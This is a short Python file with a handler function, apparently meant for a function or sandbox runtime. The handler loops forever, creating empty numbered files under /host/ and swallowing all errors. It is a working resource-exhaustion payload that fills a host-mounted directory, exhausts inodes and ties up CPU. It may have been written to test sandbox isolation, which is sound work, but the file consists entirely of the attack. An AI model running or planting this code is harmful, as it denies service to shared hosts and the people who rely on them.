import os


def handler(event):
    number = 0
    while True:
        try:
            os.close(os.open(f'/host/{number}', os.O_CREAT | os.O_WRONLY))
        except OSError:
            pass
        number += 1
